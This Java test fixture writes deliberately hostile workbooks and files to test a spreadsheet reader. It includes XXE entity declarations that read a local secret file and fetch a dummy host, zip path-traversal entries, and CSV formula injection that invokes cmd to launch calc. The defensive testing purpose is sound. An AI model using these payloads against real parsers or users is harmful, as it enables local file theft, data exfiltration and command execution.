package se.underlag.hostile;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import se.underlag.sheet.HandMadeXlsx;

/** Workbooks that ask whoever reads them to fetch, to read or to write something elsewhere. */
final class HostileWorkbooks {

    /** Every part that is read of a workbook. */
    static final List<String> PARTS = List.of(
            "[Content_Types].xml",
            "_rels/.rels",
            "docProps/core.xml",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/sharedStrings.xml",
            "xl/worksheets/sheet1.xml");

    /** Nobody listens there; that somebody tries to is what matters. */
    static final String ELSEWHERE = "http://127.0.0.1:9/underlag";

    private static final String CORE =
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<cp:coreProperties "
                    + "xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
                    + "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>t</dc:title></cp:coreProperties>";

    private HostileWorkbooks() {}

    /** Puts one of each kind into a folder, all with texts that make them different from each other. */
    static void write(Path folder, Path secret) throws IOException {
        for (String part : PARTS) {
            String name = part.replaceAll("[^a-zA-Z]+", "-");
            workbook("entiteter " + part)
                    .before(part, entities(secret))
                    .atEnd(part, "&secret;&elsewhere;")
                    .write(folder.resolve("entiteter" + name + ".xlsx"));
            workbook("sent " + part)
                    .before(part, "<!-- " + "x".repeat(600) + " -->" + entities(secret))
                    .atEnd(part, "&secret;&elsewhere;")
                    .write(folder.resolve("sena-entiteter" + name + ".xlsx"));
        }
        workbook("länkar")
                .replacing("xl/_rels/workbook.xml.rels", "</Relationships>", link("externalLink") + "</Relationships>")
                .write(folder.resolve("länkar.xlsx"));
        workbook("bladet")
                .replacing(
                        "xl/_rels/workbook.xml.rels",
                        "Target=\"worksheets/sheet1.xml\"",
                        "Target=\"" + ELSEWHERE + "\" TargetMode=\"External\"")
                .write(folder.resolve("bladet-annorstädes.xlsx"));
        workbook("formatmall")
                .before("xl/worksheets/sheet1.xml", "<?xml-stylesheet type=\"text/xsl\" href=\"" + ELSEWHERE + "\"?>")
                .write(folder.resolve("formatmall.xlsx"));
        for (String entry : List.of("../../evil.txt", "/evil.txt", "C:\\evil.txt", "..\\..\\evil.txt")) {
            String name = entry.replaceAll("[^a-zA-Z]+", "-");
            workbook("väg " + entry).part(entry, " ".repeat(60)).write(folder.resolve("väg" + name + ".xlsx"));
            zip(folder.resolve("arkiv" + name + ".zip"), entry);
        }
        Files.writeString(folder.resolve("sida.xls"), "<html><img src='" + ELSEWHERE + "'><script src='x'></script>");
        Files.writeString(folder.resolve("tabell.xml"), "<?xml version='1.0'?>" + entities(secret) + "<a>&secret;</a>");
        Files.writeString(folder.resolve("formel.csv"), "=WEBSERVICE(\"" + ELSEWHERE + "\");=cmd|' /C calc'!A0\n1;2\n");
    }

    private static HandMadeXlsx workbook(String text) {
        return new HandMadeXlsx()
                .formats(Map.of(14, ""))
                .texts("<si><t>" + text + "</t></si>")
                .part("docProps/core.xml", CORE)
                .replacing(
                        "_rels/.rels",
                        "</Relationships>",
                        "<Relationship Id=\"rIdC\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships"
                                + "/metadata/core-properties\" Target=\"docProps/core.xml\"/></Relationships>")
                .replacing(
                        "[Content_Types].xml",
                        "</Types>",
                        "<Override PartName=\"/docProps/core.xml\" ContentType=\"application/vnd.openxmlformats-package"
                                + ".core-properties+xml\"/></Types>")
                .sheet("Blad1", "<row><c t=\"s\"><v>0</v></c></row>");
    }

    private static String entities(Path secret) {
        return "<!DOCTYPE x SYSTEM \"" + ELSEWHERE + ".dtd\" [<!ENTITY secret SYSTEM \"" + secret.toUri()
                + "\"><!ENTITY elsewhere SYSTEM \"" + ELSEWHERE + "\"><!ENTITY % all SYSTEM \"" + ELSEWHERE
                + "\">%all;]>";
    }

    private static String link(String type) {
        return "<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                + type + "\" Target=\"" + ELSEWHERE + "\" TargetMode=\"External\"/>";
    }

    private static void zip(Path file, String entry) throws IOException {
        try (OutputStream out = Files.newOutputStream(file);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(entry));
            zip.write(entry.getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
    }
}
